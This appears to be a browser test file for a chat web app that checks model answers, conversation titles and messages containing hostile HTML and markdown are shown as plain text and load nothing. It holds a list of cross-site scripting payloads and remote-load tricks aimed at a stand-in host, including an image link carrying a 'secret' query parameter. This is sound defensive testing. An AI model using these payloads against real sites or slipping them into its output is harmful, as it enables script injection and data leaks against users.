import { expect, it } from 'vitest'
import { answer } from '../support/stub-provider/index.ts'
import { answers, ask, describeInBrowser, questions, setStage } from './page-fixture.ts'

const shown = { timeout: 10_000 }
const clean = { remoteRequests: [], violations: [], errors: [] }

/** Each would run a script, load something from another origin, or leave its place if it were taken as it is. */
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '<img src="https://evil.example/a.png">',
  '![pixel](https://evil.example/b.png)',
  '![pixel](//evil.example/c.png)',
  '<svg><script>alert(3)</script></svg><svg onload=alert(4)>',
  '<a href="javascript:alert(5)">click</a> [click](javascript:alert(6)) [click](data:text/html,<script>alert(7)</script>)',
  '<iframe src="https://evil.example/d"></iframe><object data="https://evil.example/e"></object>',
  '<style>@import "https://evil.example/f.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/g.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/h"><input name="x" autofocus onfocus=alert(8)><button>go</button></form>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/i.png)" class="button primary" id="app">over</p>',
  '<video src="https://evil.example/j.mp4" poster="https://evil.example/k.png" autoplay></video>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(9)&gt;">',
  '<details open ontoggle=alert(10)><summary>more</summary></details>',
  '```"onmouseover="alert(11)\ncode <img src=x onerror=alert(12)>\n```',
  '`<img src=x onerror=alert(13)>`',
  '[a]: https://evil.example/l "t\\" onclick=alert(14)"\n\n[a]',
].join('\n\n')

describeInBrowser('the page and foreign text', () => {
  it('runs nothing, loads nothing from elsewhere and breaks no policy, whatever a model answers', async () => {
    const { stub, open } = await setStage()
    stub.play(answer(...(hostile.match(/[\s\S]{1,40}/g) ?? [])))
    const { page, misdeeds } = await open()
    await ask(page, hostile)
    await page.locator('article[aria-busy="false"]').getByText('over').waitFor(shown)
    const answered = answers(page)
    const inside = 'script, style, link, meta, iframe, object, embed, form, svg, video, img, math, details'
    expect(await answered.locator('.markdown').locator(inside).count()).toBe(0)
    const attributes = await answered
      .locator('.markdown *')
      .evaluateAll((elements) =>
        elements.flatMap((element) => [...element.attributes].map((one) => `${one.name}=${one.value}`)),
      )
    expect(attributes.filter((one) => /^on|^style=|^id=|javascript:|data:/i.test(one))).toEqual([])
    expect(await answered.textContent()).toContain('<script>alert(1)</script>')
    expect(await questions(page).locator('.bubble').innerHTML()).not.toContain('<script')
    await page.reload()
    await page.locator('article[aria-busy="false"]').getByText('over').waitFor(shown)
    expect(misdeeds).toEqual(clean)
  })

  it('shows the address of an image instead of the image (complaint 43)', async () => {
    const { stub, open } = await setStage()
    stub.play(answer('See ![my plan](https://evil.example/pixel.png?secret=1).'))
    const { page, misdeeds } = await open()
    await ask(page, 'Draw')
    const place = answers(page).getByRole('link', { name: /Image not loaded: my plan/ })
    await place.waitFor(shown)
    expect(await place.getAttribute('href')).toBe('https://evil.example/pixel.png?secret=1')
    expect(await place.getAttribute('rel')).toContain('noreferrer')
    expect(misdeeds).toEqual(clean)
  })

  it('shows a hostile title as text, in the list and in the search', async () => {
    const { test, open } = await setStage()
    const title = '<img src=x onerror=alert(1)>'
    const { body } = await test.call('POST', '/api/v2/conversations', { title })
    await test.call('POST', `/api/v2/conversations/${body.id}/turns`, { text: '<b onclick=alert(2)>needle</b>' })
    const { page, misdeeds } = await open(`/app/c/${body.id}`)
    await page.getByRole('heading', { name: title }).waitFor(shown)
    await page.getByRole('navigation').getByRole('link', { name: title }).waitFor(shown)
    await page.getByRole('textbox', { name: 'Search messages' }).fill('needle')
    await page.getByRole('region', { name: 'Search results' }).getByRole('link').first().waitFor(shown)
    expect(await page.locator('aside b, aside img, header img').count()).toBe(0)
    expect(misdeeds).toEqual(clean)
  })

  it('colours code and copies it, with nothing but its own files', async () => {
    const { stub, open } = await setStage()
    stub.play(answer('```python\ndef greet():\n    return "hej"\n```'))
    const { page, misdeeds } = await open('/app/', { permissions: ['clipboard-read', 'clipboard-write'] })
    await ask(page, 'Code, please')
    await answers(page).locator('.hljs-keyword').getByText('def').waitFor(shown)
    await answers(page).getByText('python', { exact: true }).waitFor(shown)
    await answers(page).getByRole('button', { name: 'Copy', exact: true }).first().click()
    await answers(page).getByRole('button', { name: 'Copied' }).waitFor(shown)
    expect(await page.evaluate<string>('navigator.clipboard.readText()')).toBe('def greet():\n    return "hej"')
    expect(misdeeds).toEqual(clean)
  })
})
